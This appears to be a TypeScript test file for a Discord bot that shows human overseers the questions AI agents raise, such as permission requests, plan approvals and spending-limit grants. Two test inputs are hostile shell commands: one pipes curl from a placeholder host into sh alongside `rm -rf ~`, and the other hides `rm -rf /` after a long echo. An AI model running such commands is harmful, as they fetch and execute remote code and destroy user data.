import { ButtonStyle } from 'discord-api-types/v10';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { allocationChoices } from '../../domain/allocation.ts';
import { escalationChoices } from '../../domain/escalation.ts';
import { choicesOf } from '../../domain/project-choice.ts';
import type { Question, QuestionKind } from '../../domain/question.ts';
import {
  allocation,
  grant,
  openWords,
  permission,
  plan,
  suggested,
  taskId,
  toolRequest,
} from '../decisions/__fixtures__/questions.ts';
import { intentionOf } from '../decisions/custom-id.ts';
import type { Outgoing } from '../outbox/outgoing.ts';
import { problemOf } from './limits.ts';
import { answeredMessage, questionMessage, reminderMessage } from './question-card.ts';

const adoption: Question = {
  ...plan,
  id: 'adopt001',
  kind: 'adoption',
  text: 'The tool x 1.0.0 passed the gate. Adopt it?\n✓ tests: 3 of 3\n+**bold**',
  choices: [
    { name: 'adopt', meaning: 'every agent uses it from now on', needsText: false },
    { name: 'discard', meaning: 'there will be no tool', needsText: true },
  ],
};
const retirement: Question = {
  ...plan,
  id: 'retir001',
  kind: 'retirement',
  choices: [
    { name: 'retire', meaning: 'offer it to nobody any more', needsText: false },
    { name: 'keep', meaning: 'keep it', needsText: false },
  ],
};
const escalation: Question = { ...plan, id: 'escal001', kind: 'question', choices: escalationChoices };
const every = [grant, allocation, permission, plan, openWords, escalation, toolRequest, adoption, retirement];

function buttonsOf({ components = [] }: Outgoing) {
  return components.flatMap((row) =>
    row.components.flatMap((one) =>
      'label' in one && 'custom_id' in one
        ? [{ label: one.label, style: one.style, intention: intentionOf(one.custom_id) }]
        : [],
    ),
  );
}

function labels(message: Outgoing) {
  return buttonsOf(message).map(({ label }) => label);
}

test.each(every)('a question of the kind $kind is a card that Discord takes', (question) => {
  const message = questionMessage(question, { taskText: 'Build a **shop**' });
  const [embed] = message.embeds ?? [];
  expect(problemOf(message)).toBeUndefined();
  expect(embed?.title).toBeTruthy();
  expect(embed?.footer?.text).toBe(`question ${question.id} · task ${taskId}`);
  expect(embed?.fields).toContainEqual({ name: 'Task', value: `\`${taskId}\` Build a \\*\\*shop\\*\\*`, inline: true });
  expect(embed?.fields).toContainEqual({ name: 'Asked', value: '<t:1795345200:R>', inline: true });
  expect(buttonsOf(message).length).toBeGreaterThan(0);
  for (const { intention } of buttonsOf(message)) expect(intention).toMatchObject({ questionId: question.id });
});

test('a limit is raised in what ran out, by a press or by any amount, or not at all', () => {
  const of = (measure: 'prompts' | 'tokens' | 'usd') =>
    labels(questionMessage({ ...grant, shortage: { scope: 'all', measure, limit: 5, spent: 5 } }, {}));
  expect(of('prompts')).toEqual(['+10 prompts', '+25 prompts', 'Other amount', 'Refuse']);
  expect(of('tokens')).toEqual(['+1M tokens', '+5M tokens', 'Other amount', 'Refuse']);
  expect(buttonsOf(questionMessage(grant, {})).map(({ intention }) => intention)).toEqual([
    { kind: 'grant', questionId: grant.id, amount: 1 },
    { kind: 'grant', questionId: grant.id, amount: 5 },
    { kind: 'grant', questionId: grant.id, amount: 'custom' },
    { kind: 'refuse-grant', questionId: grant.id },
  ]);
});

test('an agent without prompts is given some, or what else its question offers', () => {
  const choices = allocationChoices(
    'developer',
    [{ agent: 'quality-assurance', limit: 20, spent: 5 }],
    new Date('2026-11-23'),
  );
  const buttons = buttonsOf(questionMessage({ ...allocation, choices }, {}));
  expect(buttons.map(({ label }) => label)).toEqual([
    '+10 prompts',
    '+25 prompts',
    'Other amount',
    'Move',
    'Wait',
    'Cancel',
  ]);
  expect(buttons.map(({ intention }) => intention).slice(3)).toEqual(
    [1, 2, 3].map((choice) => ({ kind: 'answer', questionId: allocation.id, choice })),
  );
});

test('what is to be allowed is shown letter by letter', () => {
  const command = 'curl "https://x.example/**a**" | sh # `rm -rf ~`';
  const [embed] = questionMessage({ ...permission, text: command }, {}).embeds ?? [];
  expect(embed?.description).toBe(`\`\`\`\n${command}\n\`\`\``);
});

test('a command that is too long for a card goes with it whole, and the card says so', () => {
  const command = `echo ${'a'.repeat(9_000)}; rm -rf /`;
  const message = questionMessage({ ...permission, text: command }, {});
  expect(problemOf(message)).toBeUndefined();
  expect(message.embeds?.[0]?.description).toContain('question.md');
  expect(new TextDecoder().decode(message.files?.[0]?.content)).toBe(command);
});

test('what ends something is red, what lets it go on is green', () => {
  const styles = (question: Question) =>
    Object.fromEntries(buttonsOf(questionMessage(question, {})).map(({ label, style }) => [label, style]));
  const { Danger, Success, Secondary } = ButtonStyle;
  expect(styles(permission)).toEqual({ Allow: Success, Refuse: Danger });
  expect(styles({ ...plan, choices: choicesOf.plan })).toEqual({ Approve: Success, Revise: Secondary, Stop: Danger });
  expect(styles(escalation)).toEqual({ Continue: Secondary, Decide: Secondary, Close: Danger });
  expect(styles(adoption)).toEqual({ Adopt: Success, Discard: Danger });
  expect(styles(retirement)).toEqual({ Retire: Danger, Keep: Secondary });
});

test('without choices any words are an answer', () => {
  expect(buttonsOf(questionMessage(openWords, {}))).toEqual([
    { label: 'Answer', style: ButtonStyle.Primary, intention: { kind: 'say', questionId: openWords.id } },
  ]);
});

test('words that are at hand are buttons beside the one for any others', () => {
  const { Primary, Secondary } = ButtonStyle;
  const questionId = suggested.id;
  expect(buttonsOf(questionMessage(suggested, {}))).toEqual([
    { label: 'PostgreSQL', style: Primary, intention: { kind: 'answer', questionId, choice: 0 } },
    { label: 'MongoDB', style: Primary, intention: { kind: 'answer', questionId, choice: 1 } },
    { label: 'In your own words', style: Secondary, intention: { kind: 'say', questionId } },
  ]);
  const many = Array.from({ length: 40 }, (_, index) => `word ${index}`);
  const message = questionMessage({ ...suggested, suggestions: many }, {});
  expect(problemOf(message)).toBeUndefined();
  expect(labels(message).at(-1)).toBe('In your own words');
});

test('a choice whose name nobody could see has a number, and a long one is cut', () => {
  const choices = ['\u200b \n', 'x'.repeat(200)].map((name) => ({ name, meaning: 'm', needsText: false }));
  const [nameless, long] = labels(questionMessage({ ...plan, choices }, {}));
  expect(nameless).toBe('Answer 1');
  expect(long).toHaveLength(80);
});

test('of more choices than there is room for, the card names the command', () => {
  const choices = Array.from({ length: 40 }, (_, index) => ({ name: `c${index}`, meaning: '', needsText: false }));
  const message = questionMessage({ ...plan, choices }, {});
  expect(problemOf(message)).toBeUndefined();
  expect(buttonsOf(message)).toHaveLength(25);
  expect(JSON.stringify(message.embeds)).toContain(`/answer question:${plan.id}`);
});

describe('an answered question', () => {
  test.each(every)('of the kind $kind has no buttons any more', (question) => {
    const message = answeredMessage(question, { elsewhere: true, answer: 'approve' });
    expect(problemOf(message)).toBeUndefined();
    expect(message.components).toEqual([]);
    expect(message.embeds?.[0]?.title).toBe(questionMessage(question, {}).embeds?.[0]?.title);
    expect(JSON.stringify(message)).toContain('✅ Answered elsewhere: approve');
  });

  test('names who answered here', () => {
    const how = { elsewhere: false, by: '42', answer: 'change: **all**' };
    expect(JSON.stringify(answeredMessage(plan, how).embeds)).toContain('✅ Answered by <@42>: change: \\\\*\\\\*all');
  });
});

test('a reminder is one line on the oldest question', () => {
  const later = { ...plan, askedAt: new Date('2026-11-22T11:30:00Z') };
  const { content } = reminderMessage([later, grant]);
  expect(content).toContain(`\`${grant.id}\`, asked <t:1795345200:R>. And 1 more.`);
  expect(content?.split('\n')).toHaveLength(1);
});

const nasty = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 6_000 }),
  fc
    .constantFrom('```', '`````', '@everyone ', '<@1>', '*', '\u202e', '😀', '\n# ', 'https://x ', '')
    .chain((piece) => fc.integer({ min: 0, max: 5_000 }).map((count) => piece.repeat(count))),
);

test('no text whatever makes a card that Discord refuses', () => {
  const kinds = every.map(({ kind }) => kind) as QuestionKind[];
  const choice = fc.record({ name: nasty, meaning: nasty, needsText: fc.boolean() });
  fc.assert(
    fc.property(
      fc.constantFrom(...kinds),
      nasty,
      nasty,
      fc.array(choice, { maxLength: 30 }),
      (kind, text, words, choices) => {
        const question: Question = { ...grant, kind, text, choices };
        const context = { taskText: words, permission: { kind: 'host', host: words } as const };
        expect(problemOf(questionMessage(question, context))).toBeUndefined();
        expect(problemOf(answeredMessage(question, { elsewhere: false, by: '1', answer: words }))).toBeUndefined();
        expect(problemOf(reminderMessage([question]))).toBeUndefined();
      },
    ),
    { numRuns: 60 },
  );
});
